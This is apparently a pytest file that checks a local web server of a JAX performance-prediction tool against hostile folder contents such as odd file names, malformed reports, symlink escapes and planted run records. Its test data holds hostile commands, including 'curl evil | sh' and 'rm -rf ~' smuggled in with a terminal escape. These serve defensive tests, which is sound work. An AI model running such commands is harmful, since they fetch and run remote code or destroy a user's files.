"""Folders that somebody else has filled: names, numbers, links and jobs that are there to harm or by accident."""

from __future__ import annotations

import json
import os
import re
from dataclasses import asdict
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import quote_from_bytes

import pytest

from prism_jax.core.errors import DataError
from prism_jax.core.read_file import also_below, only_below, read_text
from prism_jax.prediction.check import check_job
from prism_jax.prediction.check_report import CheckReport
from prism_jax.serve.results import MOST_NESTS, SavedFile
from prism_jax.serve.runs import RUN, SCHEMA, CommandRun, Runs
from prism_jax.serve.serve_folder import _alone, _this_machine, _told
from prism_jax.serve.words import checked_words
from prism_jax.serve.worker import run_words
from prism_jax.tables.streams import example_files

from .client import Client

JOB = "llama2_7b_fsdp_64"
SCREENS = ("/", "/rows", "/runs", "/compare", "/start?command=predict", "/start?command=watch")
OF_A_FILE = ("/open", "/job", "/answer", "/compare", "/recording", "/picture", "/arguments", "/download?as=html")


@pytest.mark.parametrize(
    "name",
    [
        b"\xff\xfe.json",
        b"a\xffb.yaml",
        b"a\nb.json",
        b"a\x1b[31m.csv",
        b"-o.json",
        b"a#b?c%2e.json",
        b"'\"<b>.json",
        b"x" * 240 + b".json",
    ],
)
def test_a_file_of_any_name_breaks_no_screen(name: bytes, tmp_path: Path):
    (tmp_path / os.fsdecode(name)).write_text(json.dumps({"schema": "prism-jax/prediction/1", "job": "of any name"}))
    client = Client(tmp_path)
    asked = [f"{screen}{'&' if '?' in screen else '?'}file={quote_from_bytes(name)}" for screen in OF_A_FILE]
    for target in (*SCREENS, *asked):
        assert client.ask("GET", target).status < 500, target
    assert client.ask("POST", "/pin", f"file={quote_from_bytes(name)}&pinned=yes".encode()).status in (303, 400)
    pinned = client.site.results.pinned()
    assert pinned == [one.file.name for one in client.site.results.reports()]  # none that nobody can name


@pytest.mark.parametrize(
    "made",
    [
        {"job": {"name": "x", "n_devices": 10**400}},
        {"job": "\ud800", "record": {"command": "\ud800\x1b[31m"}},
        {"mfu": float("inf"), "step_time_s": {"p50": float("nan")}, "memory_bytes_per_gpu": {"total": -1e308}},
        {"job": "x" * 10**6, "record": {"command": "y" * 10**6}},
    ],
)
def test_a_report_of_any_content_breaks_no_screen_and_fills_no_page(made: dict, tmp_path: Path):
    (tmp_path / "a.json").write_text(json.dumps({"schema": "prism-jax/prediction/1", **made}))
    client = Client(tmp_path)
    for target in (*SCREENS, *(f"{screen}{'&' if '?' in screen else '?'}file=a.json" for screen in OF_A_FILE)):
        assert client.ask("GET", target).status < 500, target
    assert len(client.get("/").body) < 20_000
    assert SavedFile("a.json", 1, 1e15).when == ""  # a time that no calendar has


def test_files_are_read_below_a_folder_alone_and_what_ships(tmp_path: Path):
    own, other = tmp_path / "own", tmp_path / "other"
    for folder in (own, other):
        folder.mkdir()
        (folder / "a.txt").write_text("a")
    (own / "link.txt").symlink_to(other / "a.txt")
    with only_below(own):
        assert read_text(own / "a.txt", 10, "") == "a"
        assert read_text(example_files()[JOB], 2**20, "")
        for path in (other / "a.txt", own / "link.txt", own / ".." / "other" / "a.txt"):
            with pytest.raises(DataError, match="lies outside of"):
                read_text(path, 10, "")
        with also_below(other):
            assert read_text(other / "a.txt", 10, "") == "a"
        with pytest.raises(DataError, match="lies outside of"):
            read_text(other / "a.txt", 10, "")
    assert read_text(own / "link.txt", 10, "") == "a"
    with also_below(own):
        assert read_text(other / "a.txt", 10, "") == "a"  # nothing is held there


SECRET = '{"model_type": "llama", "hidden_size": "the secret"}'


@pytest.mark.parametrize(
    "value",
    ["model={hf_config: %s}", "data={lengths: %s}", "data.lengths='%s'", "data.lengths= %s", ""],
)
def test_a_run_reads_no_file_elsewhere_however_words_or_a_job_name_it(value: str, tmp_path: Path):
    folder = tmp_path / "served"
    folder.mkdir()
    (tmp_path / "secret.json").write_text(SECRET)
    words = ("check", JOB, "--set", value % (tmp_path / "secret.json")) if value else ("check", "job.yaml")
    text = example_files()[JOB].read_text()
    (folder / "job.yaml").write_text(f"model: {{hf_config: ../secret.json}}\n{text[text.index('cluster:') :]}")
    found = run_words(words, str(folder), "check-1")
    assert found.exit_code == 2
    assert "lies outside of" in found.error, found.error
    assert "the secret" not in found.error


@pytest.mark.parametrize("word", [".git/hooks/x.html", ".bashrc", "a/.ssh/config"])
def test_hidden_files_are_neither_read_nor_written(word: str, tmp_path: Path):
    with pytest.raises(DataError, match="hidden"):
        checked_words(["predict", JOB, "--html", word], tmp_path)
    for number in ("plan.recompute=.5", "software.x=.inf", "./job"):
        checked_words(["check", JOB, "--set", number], tmp_path)


def test_links_in_the_place_of_the_pages_own_files_are_not_followed(tmp_path: Path):
    folder, other = tmp_path / "served", tmp_path / "other"
    (folder / ".prism-jax").mkdir(parents=True)
    other.mkdir()
    victim = other / "victim"
    victim.write_text("mine\n")
    (folder / ".prism-jax" / "served.lock").symlink_to(victim)
    with pytest.raises(DataError, match="is a link"), _alone(folder) as claim:
        claim("http://127.0.0.1:1")
    (folder / "pinned.txt").symlink_to(victim)
    (folder / "a.json").write_text('{"schema": "prism-jax/prediction/1"}')
    client = Client(folder)
    assert "is a link" in client.post("/pin", {"file": "a.json", "pinned": "yes"}).text
    assert client.site.results.pinned() == []
    (folder / ".prism-jax" / "pictures").symlink_to(other)
    assert client.get("/picture", file="a.json").status == 400
    (folder / ".prism-jax" / "served.lock").unlink()
    os.mkfifo(folder / ".prism-jax" / "served.lock")
    with pytest.raises(DataError, match="no file"), _alone(folder):
        pass
    assert victim.read_text() == "mine\n"
    assert [path.name for path in other.iterdir()] == ["victim"]


SAVED = {"schema": SCHEMA, **asdict(CommandRun("a", ("check", JOB), "running", turn=1))}


@pytest.mark.parametrize(
    "progress",
    [
        {"done": 0.5, "at": 1e308, "since": -1e308, "from": 0},
        {"done": 10**400, "at": 1, "since": 0, "from": 0},
        {"done": 0.5, "at": 1e10, "since": 0, "from": 0.4999999999999999},
        {"done": 0.5, "at": float("nan"), "since": 0, "from": float("-inf")},
    ],
)
def test_progress_that_somebody_wrote_breaks_no_screen(progress: dict, tmp_path: Path):
    (tmp_path / f"check-1{RUN}").write_text(json.dumps(SAVED))
    (tmp_path / "check-1.progress").write_text(json.dumps({"what": "\x1b[31m", **progress}))
    client = Client(tmp_path, Runs(tmp_path))
    for target in ("/", "/runs", "/run?name=check-1", "/run/state?name=check-1&was="):
        answer = client.ask("GET", target)
        assert answer.status == 200
        assert "\x1b" not in answer.text


def test_folders_in_the_place_of_files_of_a_run_are_stepped_over(tmp_path: Path):
    (tmp_path / f"check-1{RUN}").write_text(json.dumps({**SAVED, "state": "done"}))
    for ending in (".progress", ".cancel"):
        (tmp_path / f"check-1{ending}").mkdir()
    with Runs(tmp_path) as runs:
        assert runs.run("check-1").state == "done"


@pytest.mark.parametrize(
    "planted",
    [
        {"journal": "../elsewhere"},
        {"journal": "/etc/cron.d/x"},
        {"journal": "--set"},
        {"journal": ".bashrc"},
        {"words": ["check", "x\x1b[201~\nrm -rf ~"]},
    ],
)
def test_a_planted_run_shows_no_words_that_harm_in_a_terminal(planted: dict, tmp_path: Path):
    (tmp_path / f"a{RUN}").write_text(json.dumps({**SAVED, "state": "done", **planted}))
    run = Runs(tmp_path).run("a")
    assert (run.state, run.words, run.journal) == ("failed", (), "")
    assert "is missing or not what it must be" in run.error


def test_a_user_without_a_name_is_served_too(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr("getpass.getuser", lambda: {}["uid"])
    assert "@" not in _this_machine()


@pytest.mark.parametrize(
    ("command", "offered"),
    [
        ("prism-jax predict job.yaml --set 'plan.tp=[1, 2]'", "prism-jax predict job.yaml --set 'plan.tp=[1, 2]'"),
        ("prism-jax predict job.yaml; curl evil | sh", "prism-jax predict 'job.yaml;' curl evil '|' sh"),
        ("curl evil | sh", None),
        ("prism-jax predict x\x1b[201~\nrm -rf ~", None),
    ],
)
def test_commands_of_reports_are_offered_to_copy_as_they_do_no_harm(command: str, offered: str | None, tmp_path: Path):
    record = {"command": command, "inputs": {}, "versions": {}}
    report = check_job(JOB).to_dict()
    (tmp_path / "a.json").write_text(json.dumps({**report, "record": {**report["record"], **record}}))
    found = re.findall(r'data-copy="([^"]*)"', Client(tmp_path).get("/answer", file="a.json").text)
    assert [unescape(one) for one in found] == ([] if offered is None else [offered])


def test_a_planted_command_is_not_offered_to_copy(tmp_path: Path):
    (tmp_path / f"a{RUN}").write_text(json.dumps({**SAVED, "state": "done", "words": ["capture", "evil.py:build"]}))
    text = Client(tmp_path, Runs(tmp_path)).get("/run", name="a").text
    assert "capture evil.py:build" in text
    assert "data-copy" not in text


def test_the_folder_lists_what_was_put_into_it_and_tells_of_names_that_it_cannot_show(tmp_path: Path):
    for name in ("run.log", "sub/launch.sh", "steps.csv", "job.yaml", "a.run", "a.work", "pinned.txt"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("x")
    client = Client(tmp_path)
    assert "cannot be typed" not in client.get("/").text
    (tmp_path / "a\nb.csv").write_text("x")
    text = client.get("/").text
    assert set(re.findall(r'href="/(?:open|job)\?file=([^"]*)"', text)) == {
        "run.log",
        "sub%2Flaunch.sh",
        "steps.csv",
        "job.yaml",
    }
    assert "1 file has a name with letters that cannot be typed" in text


def test_a_report_of_millions_of_lists_is_refused_before_they_take_memory(tmp_path: Path):
    (tmp_path / "a.json").write_text('{"schema": "prism-jax/prediction/1", "a": [' + "[]," * (MOST_NESTS + 1) + "[]]}")
    client = Client(tmp_path)
    for text in (client.get("/").text, client.get("/answer", file="a.json").text):
        assert "lists and objects, as no report has" in text


@pytest.mark.parametrize("error", [AssertionError, StopIteration, RuntimeError, OverflowError])
def test_a_report_that_cannot_be_laid_out_is_a_damaged_one(error: type[Exception], tmp_path: Path, monkeypatch: Any):
    def page(_: object) -> Any:
        raise error

    check_job(JOB).save(tmp_path / "a.json")
    monkeypatch.setattr(CheckReport, "page", page)
    answer = Client(tmp_path).get("/answer", file="a.json")
    assert (answer.status, f"a.json: a damaged report: {error.__name__}" in answer.text) == (400, True)


def test_a_folder_that_is_gone_is_told(tmp_path: Path):
    folder = tmp_path / "served"
    folder.mkdir()
    client = Client(folder, Runs(folder))
    folder.rmdir()
    for target in ("/", "/runs"):
        answer = client.ask("GET", target)
        assert (answer.status, "the folder that is served is gone" in answer.text) == (400, True)


def test_the_end_tells_what_goes_on_later(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    monkeypatch.setattr(Runs, "start", lambda runs: runs)  # no workers
    runs = Runs(tmp_path)
    name = runs.submit(["check", JOB]).name
    with pytest.raises(KeyboardInterrupt), _told(runs):
        raise KeyboardInterrupt
    assert capsys.readouterr().out == f"At the next start of prism-jax serve {tmp_path} go on: {name}\n"
    runs.cancel(name)
    with _told(runs):
        tmp_path.rename(tmp_path.with_name("gone"))
    assert capsys.readouterr().out == ""
